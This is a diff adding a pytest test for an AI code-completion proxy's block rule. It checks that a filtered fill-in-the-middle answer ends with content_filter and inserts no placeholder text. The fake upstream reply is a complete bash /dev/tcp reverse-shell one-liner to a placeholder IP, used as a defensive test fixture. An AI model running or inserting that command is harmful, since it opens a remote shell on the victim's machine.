@@ -294,6 +294,22 @@ def test_fim_upstream_error_is_502_naming_the_url_and_locks_nothing_out(proxy, c
     assert again.choices[0].text == "Hello from the fake upstream."
 
 
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+def test_a_block_rule_in_a_fim_answer_inserts_nothing_of_it(proxy, fake_upstream, marker, stream):
+    """No placeholder or notice goes into inserted code: a blocked completion ends with content_filter, streamed
+    as whole (the stream inserted `[REDACTED:revshell-dev-tcp]`; found by a black-box probe)."""
+    fake_upstream.script(Reply(match=marker, content="os.system('bash -i >& /dev/tcp/203.0.113.7/4242 0>&1')",
+                               chunk_chars=6))
+    r = httpx.post(f"{proxy.base_url}/v1/completions", timeout=120, headers=proxy.headers(),
+                   json={"model": "carrot-editor", "prompt": f"# {marker}\n", "suffix": "\n", "stream": stream})
+    assert r.status_code == 200, r.text
+    docs = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip() != "[DONE]"] \
+        if stream else [r.json()]
+    text = "".join(c["text"] for d in docs for c in d["choices"])
+    assert "REDACTED" not in text and "/dev/tcp" not in text and "blocked by" not in text, text
+    assert [c["finish_reason"] for d in docs for c in d["choices"] if c.get("finish_reason")] == ["content_filter"]
+
+
 def test_fim_metadata_sent_as_a_json_string_is_read_as_on_chat(proxy, fake_upstream, marker):
     """A JSON string holding an object is metadata on /v1/completions too (form and `extra_body` callers)."""
     r = httpx.post(f"{proxy.base_url}/v1/completions", timeout=120, headers=proxy.headers(),
